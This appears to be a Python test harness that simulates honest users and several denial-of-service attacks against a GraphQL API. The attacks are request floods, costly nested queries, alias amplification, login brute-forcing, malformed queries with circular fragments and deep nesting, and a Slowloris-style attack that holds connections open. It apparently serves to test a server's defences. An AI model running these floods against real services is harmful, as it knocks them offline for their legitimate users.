"""Whoever asks, in a container with an address of its own: clients.py honest URL, or ATTACK URL.

Both ask until they are ended, and print then what came of it, as JSON.
"""

import contextlib
import http.client
import json
import random
import signal
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from urllib.parse import urlsplit

PATIENCE = 10  # seconds until an honest client takes its request for lost
PEOPLE, TABS = 4, 5  # each tab asks once a second
AT_ONCE = 32  # requests of an attacker's, one after another on each connection
HELD = 300  # connections that are held open
PASSWORD = "a long password of somebody's"  # noqa: S105 - nobody real

PAGE = "{ animals(first: 20) { nodes { name owner { username } zoo { name } } } }"
REGISTER = """mutation ($input: RegisterInput!) {
  register(input: $input) { accessToken }
}"""
LOGIN = """mutation {
  login(input: { username: "%s", password: "wrong password" }) { accessToken }
}"""
LIST = "a%d: animals(first: 50) { nodes { name owner { username } } }"
COSTLY = """{ zoos(first: 50) { nodes { owner { username }
  animals(first: 50) { nodes { name owner { zoos(first: 50) { nodes { name } } } } } } } }"""

# By the attack: the document of the nth request.
DOCUMENTS: dict[str, Callable[[int], str]] = {
    "requests": lambda n: PAGE,
    "costly": lambda n: COSTLY,
    "aliases": lambda n: f"{{ {' '.join(LIST % k for k in range(n, n + 1_400))} }}",
    "logins": lambda n: LOGIN % f"nobody{n}",
    "hostile": lambda n: hostile(random.Random(n)),  # noqa: S311 - the same ones each time
}
over = threading.Event()


def hostile(chance: random.Random) -> str:
    """Return a document that nobody has sent before, and that nobody should run."""
    name = f"x{chance.randrange(10**9)}"
    return chance.choice(
        [
            "{ animals(first: 1) { nodes { name " * 40 + "} } } " * 40 + "}",
            f"{{ {' '.join(f'{name}{k}: me {{ id }}' for k in range(1_500))} }}",
            f"query {name} {{ __schema {{ types {{ name }} }} }}",
            f'{{ user(username: "{name * 2_000}") {{ id }} }}',
            f"{{ ...{name} }} fragment {name} on Query {{ ...{name} }}",
            f"{{ me {{ {'@skip(if: true) ' * 900} }} }}",
            f"query {name} {{ animals(first: {chance.randrange(1, 50)}) {{ nodes {{ name }} }} }}",
        ]
    )


class Client:
    """A connection that is opened anew where it was closed."""

    def __init__(self, url: str, patience: float) -> None:
        self.address, self.patience = urlsplit(url).netloc, patience
        self.connection = http.client.HTTPConnection(self.address, timeout=patience)

    def ask(self, query: str, token: str = "", **variables: dict) -> tuple[int, dict]:
        """Return the status and the answer; 0 where none comes."""
        headers = {"Content-Type": "application/json"}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        body = json.dumps({"query": query, "variables": variables})
        try:
            self.connection.request("POST", "/graphql", body, headers)
            response = self.connection.getresponse()
            return response.status, json.loads(response.read())
        except (OSError, http.client.HTTPException, ValueError):
            self.connection.close()
            return 0, {}


def person(url: str, number: int) -> str:
    """Return the token of a new account; from final/ on, it has an e-mail address."""
    client, known = Client(url, 60), {"username": f"person{number}", "password": PASSWORD}
    for more in ({}, {"email": f"person{number}@example.org"}):
        _, answer = client.ask(REGISTER, input=known | more)
        if "errors" not in answer:
            return answer["data"]["register"]["accessToken"]
    raise SystemExit(f"Nobody may register: {answer}")


def honest(url: str) -> list[tuple[float, float, bool]]:
    """Ask as people do; return when, how long it took, and whether it was answered."""
    asked: list[tuple[float, float, bool]] = []
    tokens = [person(url, number) for number in range(PEOPLE)]

    def tab(number: int) -> None:
        client = Client(url, PATIENCE)
        over.wait(number / PEOPLE / TABS)
        while not over.is_set():
            began = time.time()
            status, answer = client.ask(PAGE, tokens[number % PEOPLE])
            good = status == 200 and "errors" not in answer
            asked.append((began, time.time() - began, good))
            over.wait(max(0.0, 1 - (time.time() - began)))

    together([threading.Thread(target=tab, args=[n]) for n in range(PEOPLE * TABS)])
    return asked


def flood(name: str, url: str) -> Counter:
    """Ask without a pause; return how often which status came."""
    statuses: Counter = Counter()
    document = DOCUMENTS[name]

    def line(first: int) -> None:
        client, n = Client(url, 30), first
        while not over.is_set():
            statuses[client.ask(document(n))[0]] += 1
            n += AT_ONCE

    together([threading.Thread(target=line, args=[n], daemon=True) for n in range(AT_ONCE)])
    return statuses


def slow(url: str) -> Counter:
    """Hold connections open by sending a letter a second; return how many were closed."""
    counts: Counter = Counter()
    host, _, port = urlsplit(url).netloc.partition(":")
    held: list[socket.socket] = []
    while not over.is_set():
        for _ in range(HELD - len(held)):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection((host, int(port)), timeout=1))
                held[-1].sendall(b"POST /graphql HTTP/1.1\r\nHost: api\r\nX-Slow: ")
                counts["opened"] += 1
        alive = []
        for connection in held:
            try:
                connection.sendall(b"a")
                connection.setblocking(False)
                if connection.recv(1, socket.MSG_PEEK):
                    connection.recv(65536)
                raise ConnectionError
            except BlockingIOError:
                connection.settimeout(1)
                alive.append(connection)
            except OSError:
                connection.close()
                counts["closed"] += 1
        held = alive
        over.wait(1)
    return counts


def together(threads: list[threading.Thread]) -> None:
    """Run until the end, which a SIGTERM brings."""
    for thread in threads:
        thread.start()
    for thread in threads:
        if not thread.daemon:
            thread.join()
    over.wait()


def main(name: str, url: str) -> None:
    """Ask, and print what came of it."""
    signal.signal(signal.SIGTERM, lambda *_: over.set())
    if name == "honest":
        came: object = honest(url)
    else:
        came = slow(url) if name == "slow" else flood(name, url)
    print(json.dumps(came), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
